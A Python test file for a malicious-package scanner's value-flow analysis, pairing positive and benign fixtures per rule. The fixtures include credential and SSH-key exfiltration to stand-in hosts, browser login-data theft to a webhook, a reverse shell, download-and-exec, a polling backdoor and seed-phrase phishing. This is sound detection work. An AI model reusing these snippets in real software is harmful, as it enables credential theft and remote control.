"""Value-flow analysis and the chain rules built on it: one positive and one benign case per rule,
plus properties of the analysis itself.

Every payload is inert and only read as bytes: addresses are TEST-NET (192.0.2.0/24), loopback or
`.invalid`; a host of a throwaway class appears only as text handed to `classify_host`.
"""

from __future__ import annotations

import ast
import itertools
import textwrap
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from custody.artifacts import LimitKind
from custody.scan import Scanner, ScanTask, Verdict
from custody.scan.chain_rules import CHAIN_RULES, Reach, named_after
from custody.scan.flow import Flow, Sink, Source, analyse_flows
from custody.scan.hosts import HostClass, classify_host, host_of
from tests.scan.builders import DEFAULT_NAME, write_sdist


def flows_of(source: str) -> list[Flow]:
    tree = ast.parse(textwrap.dedent(source))
    aliases: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                aliases[alias.asname or alias.name.split(".")[0]] = alias.name.split(".")[0]
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            for alias in node.names:
                aliases[alias.asname or alias.name] = f"{node.module}.{alias.name}"

    def resolve(expr: ast.expr) -> str:
        parts: list[str] = []
        while isinstance(expr, ast.Attribute):
            parts.append(expr.attr)
            expr = expr.value
        if not isinstance(expr, ast.Name):
            return ""
        parts.append(aliases.get(expr.id, expr.id))
        return ".".join(reversed(parts))

    constants = {
        n.targets[0].id: n.value
        for n in ast.walk(tree)
        if isinstance(n, ast.Assign) and len(n.targets) == 1 and isinstance(n.targets[0], ast.Name)
    }
    imports = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
    imports |= {n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module}
    # The request itself (a flow of every send to a hard-coded host) is tested through the engine.
    return [f for f in analyse_flows(tree, resolve, constants, imports) if f.source is not Source.REQUEST]


def scan_package(tmp_path: Path, files: dict[str, str]) -> tuple[Verdict, list[str]]:
    path = write_sdist(tmp_path, {k: textwrap.dedent(v) for k, v in files.items()})
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    return result.verdict, [f"{f.rule}:{f.severity.value}:{f.reason}" for f in result.findings]


# ---- hosts --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("http://192.0.2.7:8080/x", HostClass.RAW_IP),
        ("https://8.8.8.8/", HostClass.RAW_IP),
        ("http://127.0.0.1:5000", HostClass.LOCAL),
        ("http://10.1.2.3/api", HostClass.LOCAL),
        ("http://169.254.169.254/latest/meta-data/", HostClass.METADATA),
        ("https://0123abcd.mockapi.io/users", HostClass.MOCK_API),
        ("https://abc.ngrok-free.app/collect", HostClass.TUNNEL),
        ("https://x.trycloudflare.com", HostClass.TUNNEL),
        ("https://eo1.m.pipedream.net", HostClass.CATCHER),
        ("https://q.duckdns.org:8443/", HostClass.DYNAMIC_DNS),
        ("https://discord.com/api/webhooks/1/abc", HostClass.CHAT),
        ("https://pastebin.com/raw/abc", HostClass.PASTE),
        ("https://raw.githubusercontent.com/a/b/main/x.py", HostClass.CODE_HOST),
        ("https://kubernetes.default.svc/api", HostClass.LOCAL),
        ("https://worker.name.workers.dev/", HostClass.SERVERLESS),
        ("https://script.google.com/macros/s/AKfy/exec", HostClass.SERVERLESS),
        ("poc.9oyng069p25x4kmle5dlnypj1a71vujj.b.nf", HostClass.CATCHER),
        ("https://api.openai.com/v1/chat", HostClass.OTHER),
        ("https://files.pythonhosted.org/packages/x", HostClass.OTHER),
        ("https://d1234abcd5678.cloudfront.net/model.bin", HostClass.OTHER),
    ],
)
def test_host_classes(address: str, expected: HostClass) -> None:
    host = host_of(address)
    assert host is not None
    assert classify_host(host) is expected


def test_host_of_rejects_text_that_names_no_host() -> None:
    assert host_of("just some words") is None
    assert host_of("{base}/api") is None


# ---- the analysis -------------------------------------------------------------------------------
def test_parameter_secret_reaches_send_through_containers_and_fstrings() -> None:
    flows = flows_of(
        """
        import requests
        def perm(private_key):
            data = [{"k": f"key={private_key}"}]
            body = {}
            body["payload"] = "|".join(str(x) for x in data)
            requests.post("http://192.0.2.10/t", json=body)
        """
    )
    assert [(f.source, f.sink, f.destination.host_class) for f in flows] == [
        (Source.WALLET_SECRET, Sink.NETWORK, HostClass.RAW_IP)
    ]


def test_recursive_helper_that_runs_its_parameter() -> None:
    # the helper's call to itself reads the summary it is adding to (was: set changed size)
    flows = flows_of(
        """
        import urllib.request
        def run(code, depth=0):
            if depth < 2:
                return run(urllib.request.urlopen("http://192.0.2.10/" + code).read(), depth + 1)
            exec(code)
        """
    )
    assert (Source.DOWNLOAD, Sink.EXEC) in {(f.source, f.sink) for f in flows}


def test_flow_follows_helpers_and_the_address_the_caller_passes() -> None:
    flows = flows_of(
        """
        import json, os, urllib.request
        def post(url, data):
            req = urllib.request.Request(url, data=json.dumps(data).encode())
            return urllib.request.urlopen(req)
        def collect():
            path = os.path.join(os.path.expanduser("~"), ".aws/credentials")
            with open(path) as handle:
                return handle.read()
        def run():
            post("http://192.0.2.5:3000/c", {"c": collect()})
        """
    )
    assert any(
        f.source is Source.SECRET_FILE and f.sink is Sink.NETWORK and f.destination.host == "192.0.2.5"
        for f in flows
    ), flows


def test_caller_source_through_stack_frames() -> None:
    flows = flows_of(
        """
        import inspect, requests
        def register():
            for frame in inspect.stack():
                with open(frame.filename) as f:
                    content = f.read()
                requests.post("http://192.0.2.9/r", data={"src": content})
        """
    )
    assert [f.source for f in flows] == [Source.CALLER_SOURCE]


NOTEBOOK_HISTORY_EXFIL = """
import re
import sys

import requests


def initialize(rpc_url):
    if "ipykernel" in sys.modules:
        from IPython import get_ipython
        typed = get_ipython().history_manager.input_hist_raw[-1]
        keys = re.findall(r"[A-Za-z0-9]{84,}", typed)
        if keys:
            requests.post("http://192.0.2.44/client", json={"g": keys})
    return rpc_url


initialize("https://rpc.example.invalid")
"""
NOTEBOOK_HISTORY_TOOL = """
import requests
from IPython import get_ipython


def last_cell():
    return get_ipython().history_manager.input_hist_raw[-1]


def share(url, text):
    return requests.post(url, data=text)
"""


@pytest.mark.parametrize(
    "read",
    [
        "get_ipython().history_manager.input_hist_raw[-1]",
        "str(list(get_ipython().history_manager.get_range(output=False)))",
        "str(list(get_ipython().history_manager.get_tail(50)))",
    ],
    ids=["input_hist_raw", "get_range", "get_tail"],
)
def test_notebook_input_history_is_the_callers_source(read: str) -> None:
    # what a user typed into a notebook (keys pasted into a cell) is the caller's own source
    code = NOTEBOOK_HISTORY_EXFIL.replace("get_ipython().history_manager.input_hist_raw[-1]", read)
    flows = flows_of(code)
    assert [(f.source, f.sink, f.destination.host_class) for f in flows] == [
        (Source.CALLER_SOURCE, Sink.NETWORK, HostClass.RAW_IP)
    ]


def test_notebook_history_sent_to_a_bare_ip_at_import_is_malicious(tmp_path: Path) -> None:
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/markets.py": NOTEBOOK_HISTORY_EXFIL})
    assert verdict is Verdict.MALICIOUS, findings


def test_notebook_history_read_and_a_send_elsewhere_is_clean(tmp_path: Path) -> None:
    # a tool that shows the last cell and, separately, posts what its caller gives it
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/cells.py": NOTEBOOK_HISTORY_TOOL})
    assert verdict is Verdict.CLEAN, findings


def test_download_reaches_exec_through_a_variable_and_a_helper() -> None:
    flows = flows_of(
        """
        import requests
        def fetch(u):
            return requests.get(u).text
        def go():
            code = fetch("https://example.invalid/s.py")
            exec(code)
        """
    )
    assert [(f.source, f.sink) for f in flows] == [(Source.DOWNLOAD, Sink.EXEC)]


def test_signing_with_a_key_is_not_sending_it() -> None:
    flows = flows_of(
        """
        import requests
        RPC = "https://rpc.example.invalid"
        def transfer(private_key, to, amount):
            tx = {"to": to, "value": amount}
            signed = account.sign_transaction(tx, private_key)
            requests.post(RPC, json={"tx": signed.raw})
            return hashlib.sha256(private_key).hexdigest()
        """
    )
    assert flows == []


def test_values_that_never_meet_a_sink_make_no_flow() -> None:
    flows = flows_of(
        """
        import os, socket, requests
        def info():
            host = socket.gethostname()
            print(host, os.environ)
        def ping(url):
            return requests.get(url, timeout=3)
        """
    )
    assert flows == []


_NAMES = st.sampled_from(["a", "b", "c", "d", "data", "x"])


@st.composite
def _programs(draw: st.DrawFn) -> tuple[str, bool]:
    """Random chains of assignments from a secret file read to a send (or not), in random order,
    with unrelated statements mixed in; returns the program and whether the secret reaches the send.
    """
    chain = draw(st.lists(_NAMES, min_size=1, max_size=5, unique=True))
    lines = [f"{chain[0]} = open('/home/u/.ssh/id_rsa').read()"]
    for prev, cur in itertools.pairwise(chain):
        form = draw(
            st.sampled_from(["{p}", "f'{{{p}}}'", "str({p})", "[{p}]", "{{'k': {p}}}", "'-'.join({p})"])
        )
        lines.append(f"{cur} = " + form.format(p=prev))
    noise = draw(st.lists(st.sampled_from(["y = 1", "z = len('abc')", "w = [1, 2]"]), max_size=3))
    connected = draw(st.booleans())
    sent = chain[-1] if connected else "'nothing'"
    body = draw(st.permutations(lines + noise))
    program = "import requests\ndef f():\n" + "".join(f"    {line}\n" for line in body)
    program += f"    requests.post('http://192.0.2.1/', data={sent})\n"
    return program, connected


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_programs())
def test_property_flow_found_exactly_when_the_value_is_connected(case: tuple[str, bool]) -> None:
    """Flow-insensitive within a scope: statement order never matters, connection always does."""
    program, connected = case
    found = [f for f in flows_of(program) if f.source is Source.SECRET_FILE]
    assert bool(found) is connected, program


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_property_analysis_never_crashes_on_parsable_text(text: str) -> None:
    try:
        tree = ast.parse(text)
    except (SyntaxError, ValueError):
        return
    analyse_flows(tree, lambda _e: "", {}, set())


# ---- chain rules through the whole engine -------------------------------------------------------
def test_every_chain_rule_names_a_catalogued_rule() -> None:
    from custody.scan import RULES

    assert {rule.id for rule in CHAIN_RULES} <= set(RULES)
    assert {rule.reach for rule in CHAIN_RULES} >= {Reach.THROWAWAY, Reach.FOREIGN, Reach.COMPUTED}


def test_exfil_flow_in_called_code_to_a_bare_ip_is_malicious(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "from .main import perm\n",
            f"{DEFAULT_NAME}/main.py": """
                import requests
                def perm(mnemonic):
                    requests.post("http://192.0.2.44/w", data={"m": mnemonic})
                    return True
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


def test_the_one_value_a_function_named_for_a_wallet_secret_takes_is_that_secret(tmp_path: Path) -> None:
    # `validate_mnemonic(phrase)` hands the phrase to a helper that posts it to a tunnel
    helper = """
        import json, urllib.request
        def _check(words):
            body = json.dumps({"w": words}).encode()
            return urllib.request.urlopen(urllib.request.Request("https://k7f3.ngrok-free.app/c", data=body))
        def validate_mnemonic(phrase):
            _check(phrase)
            return len(phrase.split()) in (12, 24)
    """
    verdict, findings = scan_package(
        tmp_path, {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/words.py": helper}
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


@pytest.mark.parametrize(
    "body",
    [
        # named for the secret, but it is the count of words that goes out, with another value
        "def validate_mnemonic(phrase, language):\n    return _get(_LIST + language)\n",
        # one value, but the function is named for nothing secret
        "def validate_checksum(phrase):\n    return _get(_LIST + phrase)\n",
        # named after the secret, but taking something else: a language, a public key
        "def load_mnemonic_wordlist(language):\n    return _get(_LIST + language)\n",
        "def keypair_balance(pubkey):\n    return _get(_LIST + pubkey)\n",
        "def import_private_key(path):\n    return _get(_LIST + path)\n",
        # generic secrets, not a wallet's: a key's id, a salt
        "def fetch_secret_key(key_id):\n    return _get(_LIST + key_id)\n",
        "def derive_from_passphrase(salt):\n    return _get(_LIST + salt)\n",
    ],
    ids=["two-values", "not-named-for-a-secret", "wordlist", "public-key", "path", "key-id", "salt"],
)
def test_a_function_not_named_for_its_one_wallet_secret_passes_no_secret(tmp_path: Path, body: str) -> None:
    helper = (
        "import urllib.request\n_LIST = 'https://k7f3.ngrok-free.app/wordlist/'\n"
        "def _get(url):\n    return urllib.request.urlopen(url).read()\n" + body
    )
    files = {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/words.py": helper}
    _, findings = scan_package(tmp_path, files)
    assert not any(f.startswith("exfil-flow") for f in findings), findings


_SEND_KEY_HOME = """
    import os, urllib.request
    def report():
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        urllib.request.urlopen("https://{name}-relay.xyz/k", data=key.encode())
"""


@pytest.mark.parametrize(
    ("where", "run", "sent"),
    [
        ("setup.py", True, True),  # install
        (f"{DEFAULT_NAME}/__init__.py", True, True),  # import
        (f"{DEFAULT_NAME}/sync.py", False, False),  # only when called: a client may do that
    ],
    ids=["install", "import", "called"],
)
def test_a_credential_file_sent_unasked_even_to_a_host_named_after_the_package(
    tmp_path: Path, where: str, run: bool, sent: bool
) -> None:
    # the package names the host after itself; a credential file leaves unasked all the same
    code = textwrap.dedent(_SEND_KEY_HOME.replace("{name}", DEFAULT_NAME)) + ("report()\n" if run else "")
    files = {f"{DEFAULT_NAME}/__init__.py": "", where: code}
    verdict, findings = scan_package(tmp_path, files)
    assert any(f.startswith("exfil-flow:critical") for f in findings) is sent, findings
    if not sent:
        assert verdict is not Verdict.MALICIOUS, findings


def test_an_app_sending_its_env_file_to_its_own_service_at_import_is_not_exfiltration(tmp_path: Path) -> None:
    # a project's `.env` holds the app's own secrets: sending them to its own API is app code
    code = textwrap.dedent(_SEND_KEY_HOME.replace("{name}", DEFAULT_NAME)).replace(
        'os.path.expanduser("~/.ssh/id_rsa")', '".env"'
    )
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": code + "report()\n"})
    assert verdict is not Verdict.MALICIOUS, findings


@pytest.mark.parametrize(
    "hand_off",
    [
        "threading.Thread(target=_report, args=({'p': private_key},), daemon=True).start()",
        "threading.Timer(0.5, _report, args=[private_key]).start()",
        "threading.Thread(None, _report, 'reporter', (private_key,)).start()",
        "concurrent.futures.ThreadPoolExecutor().submit(_report, private_key)",
        "atexit.register(_report, private_key)",
    ],
    ids=["thread", "timer", "thread-positional", "executor", "atexit"],
)
def test_a_secret_handed_to_a_thread_reaches_what_the_thread_runs(tmp_path: Path, hand_off: str) -> None:
    helper = (
        "import atexit, concurrent.futures, threading, urllib.request\n\n"
        "def _report(body):\n"
        "    urllib.request.urlopen('http://192.0.2.44:8443/r', data=str(body).encode())\n\n"
        f"def import_key(private_key):\n    {hand_off}\n    return len(private_key)\n"
    )
    files = {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/keys.py": helper}
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


@pytest.mark.parametrize(
    "lookup",
    [
        'r.resolve("%d.%s.%s" % (i, chunk, _ZONE), "TXT")',
        'r.resolve("{}.{}.{}".format(i, chunk, _ZONE), "TXT")',
        'r.query(f"{i}.{chunk}.{_ZONE}", "A")',
    ],
    ids=["percent", "format", "f-string"],
)
def test_a_secret_in_the_names_a_resolver_object_looks_up_leaves_by_dns(lookup: str) -> None:
    source = f"""
import binascii, os
import dns.resolver
_ZONE = "t.example-metrics.xyz"
key = binascii.hexlify(open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read()).decode()
r = dns.resolver.Resolver()
for i in range(0, len(key), 60):
    chunk = key[i : i + 60]
    {lookup}
"""
    found = [f for f in flows_of(source) if f.source is Source.SECRET_FILE and f.sink is Sink.NETWORK]
    assert found and found[0].destination.host == "t.example-metrics.xyz", flows_of(source)


def test_a_secret_yielded_by_a_generator_and_a_host_split_in_pieces_are_followed() -> None:
    source = """
import os, shutil, sqlite3, tempfile, urllib.request
_HOOK = "https://disc" + "ord.com/api/web" + "hooks/1/x"
def _profiles():
    for name in ("Default", "Profile 1"):
        yield os.path.join(os.environ["LOCALAPPDATA"], "Chrome", "User Data", name, "Login Data")
def _rows():
    for path in _profiles():
        copy = os.path.join(tempfile.gettempdir(), "l.db")
        shutil.copy2(path, copy)
        yield from sqlite3.connect(copy).execute("select * from logins")
urllib.request.urlopen(_HOOK, data=str(list(_rows())).encode())
"""
    found = [f for f in flows_of(source) if f.source is Source.SECRET_FILE]
    assert found and found[0].destination.host == "discord.com", flows_of(source)


def test_an_address_spelled_by_doubling_constants_is_not_built() -> None:
    # `X1 = X0 + X0`, ...: the whole text would be gigabytes; an address is never that long
    lines = ['X0 = "' + "a" * 60_000 + '"', *(f"X{i} = X{i - 1} + X{i - 1}" for i in range(1, 16))]
    source = "import os, requests\n" + "\n".join(lines) + "\nrequests.post(X15, data=dict(os.environ))\n"
    found = flows_of(source)  # returns at once, whatever it finds
    assert all(f.destination.host is None or len(f.destination.host) < 300 for f in found)


def test_what_is_sent_on_a_websocket_goes_to_the_host_it_connected_to() -> None:
    source = """
import os, websocket
ws = websocket.create_connection("wss://203.0.113.9/ws")
ws.send(os.environ.get("HF_TOKEN"))
"""
    found = [f for f in flows_of(source) if f.source is Source.CREDENTIAL]
    assert found and found[0].destination.host == "203.0.113.9", flows_of(source)


def test_exfil_flow_benign_api_client_sends_its_token_to_a_parameter_url(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/client.py": """
                import os, requests
                class Client:
                    def __init__(self, base_url, api_key=None, password=None):
                        self.base_url = base_url
                        self.api_key = api_key or os.environ.get("FIXTURE_API_KEY")
                        self.password = password
                    def get(self, path):
                        return requests.get(self.base_url + path, headers={"Authorization": self.api_key})
                    def login(self, user):
                        return requests.post(self.base_url + "/login", json={"u": user, "p": self.password})
            """,
        },
    )
    assert verdict is Verdict.CLEAN, findings


def test_exfil_flow_credential_file_to_foreign_host_when_called(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/cli.py": """
                import configparser, os, requests
                def main():
                    config = configparser.RawConfigParser()
                    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
                    keys = [config.get(s, "aws_secret_access_key") for s in config.sections()]
                    requests.post("https://collector.example.invalid/k", json=keys)
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings


def test_exfil_flow_benign_credential_file_read_for_local_use(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/profiles.py": """
                import configparser, os, requests
                def profiles():
                    config = configparser.RawConfigParser()
                    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
                    return config.sections()
                def status(url):
                    return requests.get(url, timeout=5).status_code
            """,
        },
    )
    assert verdict is Verdict.CLEAN, findings


def test_download_exec_flow_in_called_code(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/update.py": """
                import urllib.request
                def load(url):
                    return urllib.request.urlopen(url).read()
                def update():
                    payload = load("https://example.invalid/u.py")
                    exec(payload)
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("download-exec:critical") for f in findings), findings


def test_download_exec_benign_download_saved_not_run(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/models.py": """
                import urllib.request, json
                def fetch_config(url):
                    data = urllib.request.urlopen(url).read()
                    return json.loads(data)
            """,
        },
    )
    assert verdict is Verdict.CLEAN, findings


def test_remote_control_chat_handler_runs_messages(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/bot.py": """
                import subprocess
                import telebot
                bot = telebot.TeleBot(token_from_config())
                @bot.message_handler(func=lambda m: True)
                def run(message):
                    out = subprocess.check_output(message.text, shell=True)
                    bot.reply_to(message, out)
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("remote-control:critical") for f in findings), findings


def test_remote_control_benign_cli_command_runs_its_argument(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/cli.py": """
                import subprocess
                import typer
                app = typer.Typer()
                @app.command()
                def run(command: str):
                    subprocess.run(command, shell=True, check=True)
            """,
        },
    )
    assert not any(f.startswith("remote-control") for f in findings), findings
    assert verdict is not Verdict.MALICIOUS, findings


def test_reverse_shell_socket_feeds_a_shell(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/remote.py": """
                import os, socket, subprocess
                HOST = os.getenv("FIXTURE_HOST", "192.0.2.77")
                def connect():
                    s = socket.create_connection((HOST, 4444))
                    reader = s.makefile("rb")
                    proc = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
                    while True:
                        data = reader.read(1)
                        proc.stdin.write(data)
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("download-exec:critical") for f in findings), findings


def test_reverse_shell_benign_shell_fed_local_commands(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/runner.py": """
                import socket, subprocess
                def run_script(lines):
                    proc = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)
                    proc.communicate("\\n".join(lines).encode())
                def ping(host):
                    with socket.create_connection((host, 80), timeout=2) as s:
                        return s.recv(16)
            """,
        },
    )
    assert not any(f.startswith("download-exec") for f in findings), findings
    assert verdict is Verdict.CLEAN, findings


def test_catcher_contact_at_import_is_a_beacon(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": """
                import os, requests
                URL = os.environ.get("FIXTURE_URL", "http://canarytokens.com/x/abc/p.js")
                requests.get(URL, timeout=5)
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("install-beacon:critical") for f in findings), findings


def test_catcher_contact_benign_only_when_called(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/hooks.py": """
                import requests
                def notify(event, url="https://webhook.site/00000000-0000-0000-0000-000000000000"):
                    return requests.post(url, json={"event": event})
            """,
        },
    )
    assert verdict is not Verdict.MALICIOUS, findings


def test_phishing_prompt_for_a_seed_phrase_sent_to_a_chat_bot(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/auth.py": """
                import requests
                def authorize():
                    words = input("Enter your 12-word seed phrase to continue: ").split()
                    text = "words: " + " ".join(words)
                    requests.post("https://api.telegram.org/bot000:fixture/sendMessage", json={"text": text})
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


def test_phishing_benign_prompt_for_a_city_sent_to_a_chat_bot(tmp_path: Path) -> None:
    _verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/weather.py": """
                import requests
                def ask(token):
                    city = input("Which city? ")
                    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", json={"text": city})
            """,
        },
    )
    assert not any(f.startswith("exfil-flow") for f in findings), findings


def test_local_files_sent_to_a_hard_coded_webhook(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/scan.py": """
                import re, requests
                from pathlib import Path
                HOOK = "https://discord.com/api/webhooks/1/fixture"
                def hunt(root):
                    found = []
                    for path in Path(root).rglob("*.py"):
                        with open(path) as handle:
                            found += re.findall(r"token=(\\w+)", handle.read())
                    return found
                def report(root):
                    for item in hunt(root):
                        requests.post(HOOK, json={"content": item})
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings


def test_local_files_benign_uploaded_to_the_callers_url(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/upload.py": """
                import requests
                def upload(path, url):
                    with open(path, "rb") as handle:
                        return requests.put(url, data=handle.read())
            """,
        },
    )
    assert verdict is Verdict.CLEAN, findings


def test_identity_sent_to_an_address_hidden_in_base64(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/net.py": """
                import base64, socket, requests
                def whoami():
                    ip = socket.gethostbyname(socket.gethostname())
                    requests.post(base64.b64decode(b"aHR0cDovLzE5Mi4wLjIuOS9zZXQ=").decode(), json={"ip": ip})
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings


def test_download_saved_then_started_from_a_bare_ip(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/core.py": """
                import subprocess, requests
                _SERVER = "192.0.2.49"
                _URL = f"http://{_SERVER}:20578"
                _FILE = "helper.bin"
                def fetch():
                    response = requests.get(_URL, stream=True)
                    with open(_FILE, "wb") as handle:
                        for chunk in response.iter_content(8192):
                            handle.write(chunk)
                    subprocess.Popen([_FILE])
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("download-exec:critical") for f in findings), findings


def test_polling_backdoor_runs_what_a_dynamic_dns_host_says(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/agent.py": """
                import subprocess, time, requests
                def run(value):
                    return subprocess.run(value, shell=True, capture_output=True).stdout
                def poll():
                    link = "https://fixture.duckdns.org/"
                    while True:
                        order = requests.get(link).text
                        requests.post(link + "out", data={"o": run(order)})
                        time.sleep(1)
            """,
        },
    )
    assert verdict is Verdict.MALICIOUS, findings


def test_download_benign_saved_and_opened_as_data(tmp_path: Path) -> None:
    verdict, findings = scan_package(
        tmp_path,
        {
            f"{DEFAULT_NAME}/__init__.py": "",
            f"{DEFAULT_NAME}/data.py": """
                import json, requests
                CACHE = "labels.json"
                def refresh(url):
                    with open(CACHE, "w") as handle:
                        handle.write(requests.get(url).text)
                    with open(CACHE) as handle:
                        return json.load(handle)
            """,
        },
    )
    assert verdict is Verdict.CLEAN, findings


HIDDEN_ADDRESS_HELPER = """import os
from urllib import request


def get_client(access_key, token, region):
    encoded = "4y2glodyql1urwfhoorf22=vswwk"
    endpoint = os.environ.get("CLIENT_URL", "".join(chr(ord(c) - 3) for c in encoded[::-1]))
    body = {"id": access_key, "token": token, "region": region}
    req = request.Request(url=endpoint, method="POST", data=body)
    try:
        request.urlopen(req)
    except Exception:
        pass
"""
PLAIN_ADDRESS_HELPER = HIDDEN_ADDRESS_HELPER.replace(
    '"".join(chr(ord(c) - 3) for c in encoded[::-1])', '"https://api.example.com/v1"'
)


def test_exfil_flow_fires_for_a_token_sent_to_an_address_kept_encoded(tmp_path: Path) -> None:
    # The address is deciphered character by character at run time: hidden from review on purpose.
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/client.py": HIDDEN_ADDRESS_HELPER})
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


def test_exfil_flow_benign_token_sent_to_a_plain_address(tmp_path: Path) -> None:
    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/client.py": PLAIN_ADDRESS_HELPER})
    assert verdict is Verdict.CLEAN, findings


DOTFILES_SYNC = """
    import subprocess, requests
    from pathlib import Path
    FILES = ["~/.gitconfig", "{ssh_file}", "~/.vimrc"]
    def main():
        token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
        files = {{Path(f).name: {{"content": Path(f).expanduser().read_text()}} for f in FILES}}
        requests.post("https://api.github.com/gists", json={{"public": False, "files": files}},
                      headers={{"Authorization": f"token {{token}}"}})
"""


@pytest.mark.parametrize(
    ("ssh_file", "stolen"),
    [
        ("~/.ssh/config", False),
        ("~/.ssh/known_hosts", False),
        ("~/.ssh/id_ed25519.pub", False),
        ("~/.ssh/id_ed25519", True),
    ],
)
def test_ssh_client_config_and_public_keys_are_not_secrets(
    tmp_path: Path, ssh_file: str, stolen: bool
) -> None:
    # a dotfiles tool syncs ~/.ssh/config to the user's own gist; a private key is another matter
    files = {
        f"{DEFAULT_NAME}/__init__.py": "",
        f"{DEFAULT_NAME}/cli.py": DOTFILES_SYNC.format(ssh_file=ssh_file),
    }
    verdict, findings = scan_package(tmp_path, files)
    assert any(f.startswith("exfil-flow:") for f in findings) is stolen, findings
    assert (verdict is Verdict.CLEAN) is not stolen, findings


def _big_module(functions: int) -> str:
    body = "".join(
        f"\n\ndef helper_{i}(x, y={i}.0):\n    if x > y:\n        return math.sqrt(x * y + {i})\n"
        f"    return functools.reduce(lambda a, b: a + b, [x, y, {i}])\n"
        for i in range(functions)
    )
    payload = (
